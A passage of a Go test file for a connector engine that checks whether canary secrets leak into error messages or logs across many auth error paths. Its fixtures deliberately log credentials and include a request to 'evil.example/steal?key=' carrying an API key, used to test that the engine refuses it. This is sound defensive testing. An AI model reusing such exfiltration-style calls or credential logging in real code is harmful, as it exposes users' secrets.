package engine

// Canary secrets: every error path of every auth type the engine supports is
// driven with unique secret values, and every error text and log line the
// path produces is searched for them. A row that stops erroring fails too,
// so a path cannot silently stop being covered.

import (
	"bytes"
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"strings"
	"sync"
	"testing"
	"testing/fstest"
	"time"

	"github.com/connspec/connspec/engine/jsrt"
	"github.com/connspec/connspec/engine/oauth1"
	"github.com/connspec/connspec/engine/oauth2"
	"github.com/connspec/connspec/engine/store"
)

// canaryMarker is in every canary value, so one search finds a canary in
// any form that keeps ASCII letters: raw, URL-escaped, JSON-escaped, cut
// short. The values also carry '+', '/', '=' and ':' (as base64 API keys
// and AWS-style secrets do), whose escaped forms differ from the raw ones.
const canaryMarker = "CNRY"

const (
	canaryAPIKey         = "sk_CNRY01hdrkey+Zq/w=="
	canaryQueryKey       = "qk_CNRY02qrykey+Zq/w=="
	canaryBasicUser      = "u_CNRY03user+Zq/w"
	canaryBasicPass      = "p_CNRY04pass+Zq/w=:x"
	canaryClientSecret   = "cs_CNRY05secret+Zq/w=="
	canaryAccessToken    = "at_CNRY06access+Zq/w=="
	canaryRefreshToken   = "rt_CNRY07refresh+Zq/w=="
	canaryCode           = "code_CNRY08code+Zq/w=="
	canaryAppSecret      = "as_CNRY09appsecret+Zq/w=="
	canaryConsumerSecret = "ck_CNRY10consumer+Zq/w=="
	canaryTempSecret     = "tt_CNRY11tempsecret+Zq/w=="
	canaryWorkspace      = "ws_CNRY12workspace+Zq/w=="
	canaryResolved       = "xoxb_CNRY13resolved+Zq/w=="
	canaryInputSecret    = "in_CNRY14inputsecret+Zq/w=="
	canaryNewToken       = "at_CNRY15issued+Zq/w=="
	canaryPassword       = "pw_CNRY16password+Zq/w=="
	canaryVerifier       = "ver_CNRY17verifier+Zq/w=="
	canaryTokenSecret    = "ts_CNRY18tokensecret+Zq/w=="
	canaryProxySecret    = "px_CNRY20proxyparam+Zq/w=="
)

// canaryPublicTempToken is an OAuth 1.0a temporary token: it travels in the
// authorization URL through the browser, so it is no secret (its secret is).
const canaryPublicTempToken = "temp-token-1"

// canaryBasicForms are Basic credentials of canaries, which contain no
// marker once base64-encoded: the API's Basic pair, and the OAuth 2.0 client
// authentication pair (each half form-encoded, RFC 6749 section 2.3.1).
var canaryBasicForms = []string{
	base64.StdEncoding.EncodeToString([]byte(canaryBasicUser + ":" + canaryBasicPass)),
	base64.StdEncoding.EncodeToString([]byte("client-1:" + url.QueryEscape(canaryClientSecret))),
	base64.StdEncoding.EncodeToString([]byte("client-1:" + canaryClientSecret)),
}

// canaryBuffer collects log output written concurrently.
type canaryBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *canaryBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *canaryBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// canaryProbe is what one row works with: a logger writing JSON and text at
// debug level, and what else the path produced (errors on the way, stored
// state, errors given to hooks, secrets only known at run time).
type canaryProbe struct {
	t       *testing.T
	jsonLog canaryBuffer
	textLog canaryBuffer
	logger  *slog.Logger
	texts   []string
	needles []string
}

func newCanaryProbe(t *testing.T) *canaryProbe {
	p := &canaryProbe{t: t}
	opts := &slog.HandlerOptions{Level: slog.LevelDebug}
	p.logger = slog.New(slog.NewMultiHandler(slog.NewJSONHandler(&p.jsonLog, opts), slog.NewTextHandler(&p.textLog, opts)))
	return p
}

// engine loads connectors (file name -> YAML) into an engine that logs to
// the probe and counts renewals through a refresh hook that records errors.
func (p *canaryProbe) engine(files map[string]string, opts ...Option) *Engine {
	p.t.Helper()
	all := append([]Option{WithLogger(p.logger), WithRefreshHook(func(_ Connection, _ time.Duration, err error) {
		if err != nil {
			p.note(err)
		}
	})}, opts...)
	e := New(all...)
	for name, src := range files {
		if _, diags := e.LoadFS(fstest.MapFS{name: {Data: []byte(src)}}, name); diags.HasErrors() {
			p.t.Fatalf("connector %s does not load:\n%s", name, diags.Error())
		}
	}
	return e
}

// one is engine for a single connector, registered as "c".
func (p *canaryProbe) one(src string, opts ...Option) *Engine {
	p.t.Helper()
	return p.engine(map[string]string{"c.yml": src}, opts...)
}

// note records the texts of an error met on the way.
func (p *canaryProbe) note(err error) {
	if err != nil {
		p.texts = append(p.texts, canaryErrorTexts(err)...)
	}
}

// secret adds a value only known at run time (a minted token) to search for.
func (p *canaryProbe) secret(s string) {
	if s != "" {
		p.needles = append(p.needles, s, url.QueryEscape(s))
	}
}

// canaryErrorTexts is everything a caller can read from err: its text in
// the usual verbs, and the text and string fields of every typed error in
// its chain, since callers reach those with errors.As.
func canaryErrorTexts(err error) []string {
	texts := []string{err.Error(), fmt.Sprintf("%v", err), fmt.Sprintf("%+v", err), fmt.Sprintf("%#v", err)}
	var walk func(error)
	walk = func(e error) {
		for e != nil {
			switch t := e.(type) {
			case *ConnectionError, *MethodError, *HTTPError, *HostError, *InputError, *TestError, *UnresolvedAuthError,
				*oauth2.TokenError, *oauth2.CallbackError, *oauth1.ProviderError, *oauth1.DeniedError, *jsrt.Error:
				texts = append(texts, t.Error())
				texts = append(texts, canaryStringFields(t)...)
			}
			switch u := e.(type) {
			case interface{ Unwrap() []error }:
				for _, x := range u.Unwrap() {
					walk(x)
				}
				return
			case interface{ Unwrap() error }:
				e = u.Unwrap()
			default:
				return
			}
		}
	}
	walk(err)
	return texts
}

// canaryStringFields lists the exported string fields of a typed error
// (Message, URL, Description, ...). HTTPError.Body is the provider's answer,
// read on purpose by a caller, and is not among them.
func canaryStringFields(e error) []string {
	v := reflect.ValueOf(e)
	if v.Kind() == reflect.Pointer {
		v = v.Elem()
	}
	if v.Kind() != reflect.Struct {
		return nil
	}
	var out []string
	for i := range v.NumField() {
		if f := v.Type().Field(i); f.IsExported() && f.Type.Kind() == reflect.String {
			out = append(out, v.Field(i).String())
		}
	}
	return out
}

// leaks lists every canary in the final error, anything noted, or the logs
// of either format, each with the text around it.
func (p *canaryProbe) leaks(final error) []string {
	texts := append(canaryErrorTexts(final), p.texts...)
	texts = append(texts, p.jsonLog.String(), p.textLog.String())
	needles := append([]string{canaryMarker}, canaryBasicForms...)
	needles = append(needles, p.needles...)
	var out []string
	seen := map[string]bool{}
	for _, text := range texts {
		for _, n := range needles {
			if i := strings.Index(text, n); i >= 0 {
				msg := fmt.Sprintf("canary %q leaked: …%s…", n, text[max(0, i-160):min(len(text), i+len(n)+80)])
				if !seen[msg] {
					seen[msg] = true
					out = append(out, msg)
				}
			}
		}
	}
	return out
}

// canaryRow is one error path.
type canaryRow struct {
	name string
	// run drives the path and returns the error it ends in, which must not
	// be nil.
	run func(p *canaryProbe) error
	// want is in the text of that error: the row failed the way it means to
	// (and, with "[REDACTED]", the secret was there and was redacted).
	want string
	// wantLog, when set, must be in the logs: the path did log (and, with
	// "[REDACTED]", redacted what it logged).
	wantLog string
}

func runCanaryRows(t *testing.T, rows []canaryRow) {
	seen := map[string]bool{}
	for _, row := range rows {
		if seen[row.name] {
			t.Fatalf("duplicate row %s", row.name)
		}
		seen[row.name] = true
		t.Run(row.name, func(t *testing.T) {
			p := newCanaryProbe(t)
			err := row.run(p)
			if err == nil {
				t.Fatal("the path did not fail: it no longer covers an error path")
			}
			if !strings.Contains(err.Error(), row.want) {
				t.Errorf("the path failed otherwise than expected: want %q in %q", row.want, err)
			}
			if row.wantLog != "" && (!strings.Contains(p.jsonLog.String(), row.wantLog) || !strings.Contains(p.textLog.String(), row.wantLog)) {
				t.Errorf("the logs do not contain %q:\n%s", row.wantLog, p.textLog.String())
			}
			for _, leak := range p.leaks(err) {
				t.Error(leak)
			}
		})
	}
}

// canaryServer starts a test server closed at the end of the test.
func canaryServer(t *testing.T, h http.HandlerFunc) *httptest.Server {
	srv := httptest.NewServer(h)
	t.Cleanup(srv.Close)
	return srv
}

// canaryClosedURL is the URL of a server that no longer listens.
func canaryClosedURL() string {
	srv := httptest.NewServer(http.NotFoundHandler())
	srv.Close()
	return srv.URL
}

// canarySeen is everything a request carried, as a provider that echoes it
// back in an error would show it: raw and escaped query, headers, body.
func canarySeen(r *http.Request) string {
	body, _ := io.ReadAll(r.Body)
	var b strings.Builder
	fmt.Fprintf(&b, "%s %s query=%v", r.Method, r.URL.RequestURI(), r.URL.Query())
	for k, vs := range r.Header {
		fmt.Fprintf(&b, " %s=%s", k, strings.Join(vs, ","))
	}
	if user, pass, ok := r.BasicAuth(); ok {
		fmt.Fprintf(&b, " user=%s pass=%s", user, pass)
	}
	if form, err := url.ParseQuery(string(body)); err == nil {
		fmt.Fprintf(&b, " form=%v", form)
	}
	fmt.Fprintf(&b, " body=%s", body)
	return b.String()
}

// canaryEcho answers with status and echoes the request in the body (JSON
// message and error fields) and in headers.
func canaryEcho(status int) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		seen := canarySeen(r)
		w.Header().Set("WWW-Authenticate", fmt.Sprintf("Bearer error=%q", seen))
		w.Header().Set("X-Echo", seen)
		w.Header().Set("Retry-After", "3600")
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(map[string]any{"error": "bad credentials: " + seen, "message": "you sent " + seen, "headers": r.Header, "query": r.URL.Query()})
	}
}

// canaryTokenEcho is a token endpoint that fails with status and code and
// echoes the request in error_description.
func canaryTokenEcho(status int, code string) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		seen := canarySeen(r)
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Echo", seen)
		w.WriteHeader(status)
		json.NewEncoder(w).Encode(map[string]any{"error": code, "error_description": "refresh token and client rejected; you sent " + seen, "echo": seen})
	}
}

// canaryLeakJS is a JavaScript helper the methods below use to log values
// every way console allows, as careless connector code does.
const canaryLeakJS = `function leak(label, ...xs) {
  for (const x of xs) {
    console.log(label, x)
    console.debug('%s: %j', label, x)
    console.info(JSON.stringify(x))
    if (typeof x === 'string') console.warn(encodeURIComponent(x))
    console.error(label + ' ' + String(x && x.message ? x.message : JSON.stringify(x)))
    console.trace(label, x)
  }
}
`

// canaryMethod is a JavaScript method block of an auth block: the leak
// helper and then code (the module's body).
func canaryMethod(name, code string) string {
	src := canaryLeakJS + code
	var b strings.Builder
	b.WriteString("  " + name + ":\n    code: |\n")
	for _, line := range strings.Split(strings.TrimRight(src, "\n"), "\n") {
		b.WriteString("      " + line + "\n")
	}
	return b.String()
}

// canaryThrowingTest is a test method that logs everything it has, calls
// the API (which fails in these rows) and throws with what it knows.
var canaryThrowingTest = canaryMethod("test", `export default async function ({ credentials, connectorParameters, connectionParameters, apiClient }) {
  leak('credentials', credentials, connectorParameters, connectionParameters)
  let got
  try {
    got = await apiClient.get('/me', { k: JSON.stringify(credentials) })
  } catch (e) {
    leak('api error', e, e.data)
    throw new Error('test failed: ' + e.message + ' ' + JSON.stringify(e.data) + ' ' + JSON.stringify(credentials))
  }
  throw new Error('unexpected answer ' + JSON.stringify(got) + ' with ' + JSON.stringify(credentials))
}
`)

// canaryKeyedSpec is a client-credentials connector sending the API key in
// X-Api-Key; a 418 answer is turned into an error by a response handler
// whose message quotes the provider.
func canaryKeyedSpec(base string, methods ...string) string {
	return `name: C
auth:
  type: client-credentials
  ui:
    schema:
      type: object
      properties:
        apiKey: {type: string, pattern: "^sk_[A-Za-z0-9_+/=]+$"}
        region: {type: string, enum: [eu, us]}
        count: {type: integer}
      required: [apiKey]
  makeApiClient:
    mapping:
      baseUri: ` + base + `/v1
      headers: {X-Api-Key: {$var: credentials.apiKey}}
      responseHandlers:
        - match: {$eval: {$var: response.status}, is: 418}
          error: {key: provider_refused, message: {$concat: ["provider said: ", {$var: response.data.message}]}}
` + strings.Join(methods, "")
}

func canaryKeyed(p *canaryProbe, base string, methods ...string) (*Engine, Connection) {
	return p.one(canaryKeyedSpec(base, methods...)), Connection{Connector: "c", ConnectionParameters: map[string]any{"apiKey": canaryAPIKey}}
}

func canaryGet(cl *Client, path string) error {
	_, err := cl.Get(context.Background(), path)
	return err
}

// canaryClientThen makes a client (a failure ends the row) and runs f.
func canaryClientThen(e *Engine, conn Connection, f func(*Client) error) error {
	cl, err := e.Client(context.Background(), conn)
	if err != nil {
		return err
	}
	return f(cl)
}

// canaryOAuthSpec is an OAuth 2.0 connector for srv (/authorize, /token,
// /api) sending an extra secret (connector parameter appSecret) in token
// requests as a parameter and a header; extra is appended to the auth
// block, config to getOAuthConfig's mapping.
func canaryOAuthSpec(base, config string, methods ...string) string {
	return `name: C
parametersSchema:
  type: object
  properties: {clientId: {type: string}, clientSecret: {type: string}, appSecret: {type: string}}
auth:
  type: oauth2
  getOAuthConfig:
    mapping:
      clientId: {$var: connectorParameters.clientId}
      clientSecret: {$var: connectorParameters.clientSecret}
      authorizeUri: ` + base + `/authorize
      tokenUri: ` + base + `/token
      tokenParams: {app_secret: {$var: connectorParameters.appSecret}}
      refreshParams: {app_secret: {$var: connectorParameters.appSecret}}
      tokenHeaders: {X-App-Secret: {$var: connectorParameters.appSecret}}
` + config + `  makeApiClient:
    mapping:
      baseUri: ` + base + `/api
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.access_token}]}}
` + strings.Join(methods, "")
}

var canaryOAuthParams = map[string]any{"clientId": "client-1", "clientSecret": canaryClientSecret, "appSecret": canaryAppSecret}

// canaryExpired are stored credentials whose access token has expired.
func canaryExpired() map[string]any {
	return map[string]any{"access_token": canaryAccessToken, "refresh_token": canaryRefreshToken, "token_type": "bearer",
		"expires_at": time.Now().Add(-time.Hour).UTC().Format(time.RFC3339)}
}

// canaryOAuthProvider serves /token with token and every other path with api.
func canaryOAuthProvider(t *testing.T, token, api http.HandlerFunc) *httptest.Server {
	return canaryServer(t, func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/token" {
			token(w, r)
			return
		}
		api(w, r)
	})
}

// canaryIssue is a token endpoint that grants canaryNewToken.
func canaryIssue(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(map[string]any{"access_token": canaryNewToken, "refresh_token": canaryRefreshToken, "expires_in": 3600, "token_type": "bearer"})
}

// canaryAuthorize runs AuthorizationURL and CompleteAuthorization with the
// callback query extra (plus the flow's state, for OAuth 2.0: extra without
// oauth_token).
func canaryAuthorize(e *Engine, conn Connection, extra url.Values) error {
	ctx := context.Background()
	req, err := e.AuthorizationURL(ctx, conn, redirectURI)
	if err != nil {
		return err
	}
	q := url.Values{}
	if !extra.Has("oauth_token") {
		q.Set("state", req.State)
	}
	for k, v := range extra {
		q[k] = v
	}
	_, err = e.CompleteAuthorization(ctx, conn, q, redirectURI, req.State, req.Verifier)
	return err
}

// canaryFailingStore is a store whose writes fail with an error quoting
// what was written, as a careless store implementation might: every write
// when all is set, else writes of credentials other than the first ones.
type canaryFailingStore struct {
	store.Store
	all bool
}

func (s canaryFailingStore) CompareAndSwap(ctx context.Context, id string, version int64, creds map[string]any) (int64, error) {
	if s.all || creds["access_token"] != canaryAccessToken {
		return 0, fmt.Errorf("store %s refused row %v", id, creds)
	}
	return s.Store.CompareAndSwap(ctx, id, version, creds)
}

func (s canaryFailingStore) SetState(_ context.Context, id string, st store.State) error {
	return fmt.Errorf("store %s refused state %+v", id, st)
}

func TestCanarySecretsNeverInEngineErrorsOrLogs(t *testing.T) {
	runCanaryRows(t, canaryEngineRows())
}

func canaryEngineRows() []canaryRow {
	ctx := context.Background()
	var rows []canaryRow
	add := func(r ...canaryRow) { rows = append(rows, r...) }

	// --- client-credentials, API key in a header ---
	add(
		canaryRow{name: "key-header/input-pattern", want: "apiKey: does not have the expected form", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com")
			conn.ConnectionParameters["apiKey"] = "bad-" + canaryAPIKey
			_, err := e.Client(ctx, conn)
			return err
		}},
		canaryRow{name: "key-header/input-enum", want: "region: must be one of", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com")
			conn.ConnectionParameters["region"] = canaryInputSecret
			_, err := e.Client(ctx, conn)
			return err
		}},
		canaryRow{name: "key-header/input-type", want: "count: must be of type integer", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com")
			conn.ConnectionParameters["count"] = canaryInputSecret
			_, err := e.Client(ctx, conn)
			return err
		}},
		canaryRow{name: "key-header/input-missing-with-secret-elsewhere", want: "apiKey: is required", run: func(p *canaryProbe) error {
			e, _ := canaryKeyed(p, "https://api.example.com")
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"region": "eu", "other": canaryInputSecret}})
			return err
		}},
	)
	for _, status := range []int{401, 403, 404, 429, 500, 502} {
		add(canaryRow{name: fmt.Sprintf("key-header/provider-%d-echoes-key", status), want: fmt.Sprintf("HTTP %d", status), run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(status))
			e, conn := canaryKeyed(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}})
	}
	add(
		canaryRow{name: "key-header/response-handler-quotes-provider", want: "provider_refused: provider said: you sent GET /v1/me", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(418))
			e, conn := canaryKeyed(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/me") })
		}},
		canaryRow{name: "key-header/key-in-request-query-404", want: "search?key=[REDACTED]: HTTP 404", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(404))
			e, conn := canaryKeyed(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error {
				_, err := cl.Get(ctx, "/search", WithQuery(url.Values{"key": {canaryAPIKey}}))
				return err
			})
		}},
		canaryRow{name: "key-header/network-error-closed-server", want: "/me?key=[REDACTED]\": dial tcp", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, canaryClosedURL())
			return canaryClientThen(e, conn, func(cl *Client) error {
				_, err := cl.Get(ctx, "/me", WithQuery(url.Values{"key": {canaryAPIKey}}))
				return err
			})
		}},
		canaryRow{name: "key-header/context-deadline", want: "context deadline exceeded", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, func(w http.ResponseWriter, r *http.Request) {
				select {
				case <-r.Context().Done():
				case <-time.After(5 * time.Second):
				}
			})
			e, conn := canaryKeyed(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error {
				cctx, cancel := context.WithTimeout(ctx, 50*time.Millisecond)
				defer cancel()
				_, err := cl.Get(cctx, "/slow", WithQuery(url.Values{"key": {canaryAPIKey}}))
				return err
			})
		}},
		canaryRow{name: "key-header/other-host-refused", want: "refusing to send credentials to evil.example", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com")
			return canaryClientThen(e, conn, func(cl *Client) error {
				return canaryGet(cl, "https://evil.example/steal?key="+url.QueryEscape(canaryAPIKey))
			})
		}},
		canaryRow{name: "key-header/test-rest-api-mapping-401", want: "connection test failed: GET", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e, conn := canaryKeyed(p, srv.URL, `  test:
    implementationType: rest-api-mapping
    mapping: {path: /me, method: GET, requestMapping: {k: {$var: credentials.apiKey}}}
`)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/test-rest-api-mapping-post-500", want: "connection test failed: POST", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(500))
			e, conn := canaryKeyed(p, srv.URL, `  test:
    implementationType: rest-api-mapping
    mapping: {path: /me, method: POST, requestMapping: {k: {$var: credentials.apiKey}}}
`)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/test-mapping-expr-error-quotes-key", want: "int([REDACTED])", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com", `  test:
    mapping: {$expr: "int(credentials.apiKey) > 0"}
`)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/test-js-throws-with-provider-answer", want: "Error: test failed: GET", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(403))
			e, conn := canaryKeyed(p, srv.URL, canaryThrowingTest)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/test-js-connection-error-class", want: "access_token_expired: key [REDACTED] expired", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com", canaryMethod("test", `import { ConnectionError } from '@integration-app/connector-sdk'
export default async function ({ credentials }) {
  leak('creds', credentials)
  throw new ConnectionError({ key: 'access_token_expired', message: 'key ' + credentials.apiKey + ' expired', data: credentials })
}
`))
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/test-js-throws-non-error", want: "Error: [REDACTED]", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e, conn := canaryKeyed(p, "https://api.example.com", canaryMethod("test", `export default function ({ credentials }) {
  leak('creds', credentials)
  throw { message: credentials.apiKey, credentials }
}
`))
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-header/disconnect-js-throws", want: "HTTP 400", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(400))
			e, conn := canaryKeyed(p, srv.URL, canaryMethod("disconnect", `export default async function ({ credentials, apiClient }) {
  leak('creds', credentials)
  await apiClient.post('/revoke', { key: credentials.apiKey })
}
`))
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Disconnect(ctx) })
		}},
		canaryRow{name: "key-header/make-api-client-js-throws", want: "cannot build a client for", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: client-credentials
` + canaryMethod("makeApiClient", `export default function ({ credentials, connectionParameters }) {
  leak('creds', credentials, connectionParameters)
  throw new Error('cannot build a client for ' + JSON.stringify(credentials))
}
`))
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"apiKey": canaryAPIKey}})
			return err
		}},
		canaryRow{name: "key-header/make-api-client-expr-error", want: "int([REDACTED])", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: https://api.example.com
      headers: {X-Api-Key: {$expr: "credentials.apiKey + 1 / int(credentials.apiKey)"}}
`)
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"apiKey": canaryAPIKey}})
			return err
		}},
		canaryRow{name: "key-header/make-api-client-bad-base-from-key", want: "would change the API host", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: {$concat: ["https://", {$var: credentials.apiKey}, ".example.com"]}
      headers: {X-Api-Key: {$var: credentials.apiKey}}
`)
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"apiKey": canaryAPIKey}})
			return err
		}},
		canaryRow{name: "key-header/credentials-hook-fails-quoting-credentials", want: "saving new credentials: database refused", run: func(p *canaryProbe) error {
			e := p.one(`name: C
auth:
  type: client-credentials
  getCredentialsFromConnectionParameters:
    mapping: {apiKey: {$var: connectionParameters.apiKey}}
  makeApiClient:
    mapping:
      baseUri: https://api.example.com
      headers: {X-Api-Key: {$var: credentials.apiKey}}
`, WithCredentialsHook(func(_ context.Context, c CredentialsChange) error {
				return fmt.Errorf("database refused %v", c.Connection.Credentials)
			}))
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"apiKey": canaryAPIKey}})
			return err
		}},
	)

	// --- client-credentials, API key in the query ---
	queryKeyed := func(p *canaryProbe, base string, methods ...string) (*Engine, Connection) {
		return p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: ` + base + `
      query: {api_token: {$var: credentials.token}}
` + strings.Join(methods, "")), Connection{Connector: "c", ConnectionParameters: map[string]any{"token": canaryQueryKey}}
	}
	for _, status := range []int{401, 403, 429, 500} {
		add(canaryRow{name: fmt.Sprintf("key-query/provider-%d-echoes-key", status), want: fmt.Sprintf("api_token=[REDACTED]&start=0: HTTP %d", status), run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(status))
			e, conn := queryKeyed(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/deals?start=0") })
		}})
	}
	add(
		canaryRow{name: "key-query/network-error-closed-server", want: "connect: connection refused", run: func(p *canaryProbe) error {
			e, conn := queryKeyed(p, canaryClosedURL())
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/deals") })
		}},
		canaryRow{name: "key-query/network-error-plain-http-client", want: "connect: connection refused", run: func(p *canaryProbe) error {
			e, conn := queryKeyed(p, canaryClosedURL())
			return canaryClientThen(e, conn, func(cl *Client) error {
				resp, err := cl.HTTPClient().Get("/deals")
				if err == nil {
					resp.Body.Close()
				}
				return err
			})
		}},
		canaryRow{name: "key-query/test-js-throws-with-provider-answer", want: "HTTP 400", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(400))
			e, conn := queryKeyed(p, srv.URL, canaryThrowingTest)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "key-query/test-js-network-error", want: "connect: connection refused", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			e, conn := queryKeyed(p, canaryClosedURL(), canaryThrowingTest)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
	)

	// --- client-credentials, Basic auth ---
	basic := func(p *canaryProbe, base string, methods ...string) (*Engine, Connection) {
		return p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: ` + base + `
      auth: {username: {$var: credentials.user}, password: {$var: credentials.pass}}
` + strings.Join(methods, "")), Connection{Connector: "c", ConnectionParameters: map[string]any{"user": canaryBasicUser, "pass": canaryBasicPass}}
	}
	for _, status := range []int{401, 403, 500} {
		add(canaryRow{name: fmt.Sprintf("basic/provider-%d-echoes-authorization", status), want: fmt.Sprintf("HTTP %d", status), run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(status))
			e, conn := basic(p, srv.URL)
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/charges") })
		}})
	}
	add(
		canaryRow{name: "basic/test-js-throws-with-echoed-authorization", want: "HTTP 403", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(403))
			e, conn := basic(p, srv.URL, canaryThrowingTest)
			return canaryClientThen(e, conn, func(cl *Client) error { return cl.Test(ctx) })
		}},
		canaryRow{name: "basic/network-error-closed-server", want: "connect: connection refused", run: func(p *canaryProbe) error {
			e, conn := basic(p, canaryClosedURL())
			return canaryClientThen(e, conn, func(cl *Client) error { return canaryGet(cl, "/charges") })
		}},
	)

	// --- client-credentials, login and refresh in JavaScript ---
	add(
		canaryRow{name: "login-js/login-refused-echoes-password", want: "login failed for", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e := p.one(`name: C
auth:
  type: client-credentials
` + canaryMethod("getCredentialsFromConnectionParameters", `export default async function ({ connectionParameters, apiClient }) {
  leak('login', connectionParameters)
  try {
    const res = await apiClient.post('/login', { email: connectionParameters.email, password: connectionParameters.password })
    return { token: res.token }
  } catch (e) {
    leak('login failed', e, e.data)
    throw new Error('login failed for ' + JSON.stringify(connectionParameters) + ': ' + e.message + ' ' + JSON.stringify(e.data))
  }
}
`) + `  makeApiClient:
    mapping:
      baseUri: ` + srv.URL + `
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.token}]}}
`)
			_, err := e.Client(ctx, Connection{Connector: "c", ConnectionParameters: map[string]any{"email": "ann@example.com", "password": canaryPassword}})
			return err
		}},
		canaryRow{name: "login-js/refresh-credentials-throws", want: "refresh failed with [REDACTED]", wantLog: "[REDACTED]", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e := p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: ` + srv.URL + `
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.token}]}}
` + canaryMethod("refreshCredentials", `export default async function ({ credentials, apiClient }) {
  leak('refreshing', credentials)
  try {
    return await apiClient.post('/token', { refresh: credentials.refresh })
  } catch (e) {
    throw new Error('refresh failed with ' + credentials.refresh + ' / ' + credentials.token + ': ' + JSON.stringify(e.data))
  }
}
`))
			return canaryClientThen(e, Connection{Connector: "c", Credentials: map[string]any{"token": canaryAccessToken, "refresh": canaryRefreshToken}},
				func(cl *Client) error { return canaryGet(cl, "/items") })
		}},
		canaryRow{name: "login-js/refresh-credentials-returns-non-object", want: "must return an object of credentials", run: func(p *canaryProbe) error {
			srv := canaryServer(p.t, canaryEcho(401))
			e := p.one(`name: C
auth:
  type: client-credentials
  makeApiClient:
    mapping:
      baseUri: ` + srv.URL + `
      headers: {Authorization: {$concat: ["Bearer ", {$var: credentials.token}]}}
  refreshCredentials:
    code: |
      export default function ({ credentials }) { return 'new token ' + credentials.refresh }
`)
			return canaryClientThen(e, Connection{Connector: "c", Credentials: map[string]any{"token": canaryAccessToken, "refresh": canaryRefreshToken}},
